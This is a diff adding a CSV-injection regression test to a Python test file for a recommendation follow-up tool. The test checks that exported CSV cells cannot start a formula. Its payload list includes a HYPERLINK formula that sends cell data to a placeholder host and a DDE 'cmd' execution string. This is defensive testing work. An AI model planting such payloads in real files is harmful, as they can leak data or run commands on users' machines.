@@ -3,7 +3,9 @@
 
 Usage: cli_test.py PATH/TO/followup
 """
+import csv
 import hashlib
+import io
 import json
 import os
 import re
@@ -235,6 +237,74 @@ class CliTest(unittest.TestCase):
         self.assertEqual(shown["responsible"], ["MMS", "MPRP"])
         self.assertEqual(shown["days_overdue"], 3)
         self.assertEqual([h["action"] for h in shown["history"]], ["import"])
+
+# What a spreadsheet would run, as OWASP's CSV-injection page lists it.
+FORMULAS = ['=HYPERLINK("http://x?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1",
+            " =1", "\uff1d1+1", "\uff20SUM(1)"]
+
+
+def formula_memo(texts):
+    """A Markdown memo with one recommendation per text, all for MMS."""
+    rows = "\n".join(f"| {i + 1} | {t.replace('|', chr(92) + '|')} | Director, MMS | 2004-12-15 |"
+                     for i, t in enumerate(texts))
+    return ("# MEMORANDUM\n\n**To:** Director, MMS\n**From:** The Director General\n**Date:** 2004-11-02\n"
+            "**Subject:** Evaluation of the Formula Pilot (FP)\n\n## Proposal for follow-up on Recommendations\n\n"
+            "| No. | Recommendation | Responsibility for Follow-up | Confirmation of follow-up due by |\n"
+            "|----:|---|---|---|\n" + rows + "\n")
+
+
+def formula_cells(csv_text):
+    """The cells of a CSV output that a spreadsheet would read as a formula."""
+    bad = []
+    for row in csv.reader(io.StringIO(csv_text, newline="")):
+        for cell in row:
+            if cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d",
+                                                                 "\uff20"):
+                bad.append(cell)
+    return bad
+
+
+class CsvInjectionTest(unittest.TestCase):
+    """Every CSV the program writes keeps hostile text as text."""
+
+    def setUp(self):
+        self.tmp = tempfile.TemporaryDirectory()
+        self.store = Store(self.tmp.name)
+
+    def tearDown(self):
+        self.tmp.cleanup()
+
+    def test_no_csv_cell_starts_a_formula(self):
+        s = self.store
+        memo = os.path.join(self.tmp.name, "formulas.md")
+        # A memo line cannot carry a carriage return: the reader ends the line there.
+        in_memo = [f for f in FORMULAS if "\r" not in f]
+        with open(memo, "w", encoding="utf-8") as f:
+            f.write(formula_memo(in_memo))
+        s.ok("--as", "setup", "import", memo)
+        s.ok("--as", "setup", "user", "add", "root", "--role", "admin")
+        s.ok("--as", "root", "user", "add", "eva", "--role", "evaluation")
+        s.ok("--as", "root", "user", "add", "mms", "--role", "unit", "--unit", "MMS")
+        s.ok("--as", "eva", "issue", "FP", "--as-of", "2004-11-03")
+        # Typed text refuses a lone carriage return, so it goes in by the memo's neighbours only.
+        typed = [f for f in FORMULAS if "\r" not in f]
+        for i, text in enumerate(typed):
+            ref = f"FP#{i + 1}"
+            s.ok("--as", "mms", "respond", ref, "--unit", "MMS", "--decision", "accepted", "--action",
+                 f"{text.replace('|', '/')}|MMS|2004-12-01", "--as-of", "2004-11-10")
+            s.ok("--as", "mms", "report-progress", ref, "--unit", "MMS", "--status", "in_progress", "--text", text,
+                 "--as-of", "2004-11-20")
+        outputs = {"list": s.ok("--as", "eva", "list", "--csv", "--as-of", "2005-06-01")}
+        for kind in (["status"], ["overdue"], ["rates"], ["unit", "MMS"]):
+            outputs[kind[0]] = s.ok("--as", "eva", "report", *kind, "--format", "csv", "--as-of", "2005-06-01")
+        for name, out in outputs.items():
+            with self.subTest(output=name):
+                self.assertEqual(formula_cells(out), [], out)
+        # The payloads are there, kept as text behind a quote.
+        self.assertIn("'=HYPERLINK(\"http://x?x=\"&A1,\"click\")", next(csv.reader(io.StringIO(
+            outputs["list"].splitlines()[1]))))
+        self.assertIn("'@SUM(1+1)", outputs["overdue"])
+        self.assertIn("'-2+3", outputs["unit"])
 
 
 class WorkflowTest(unittest.TestCase):
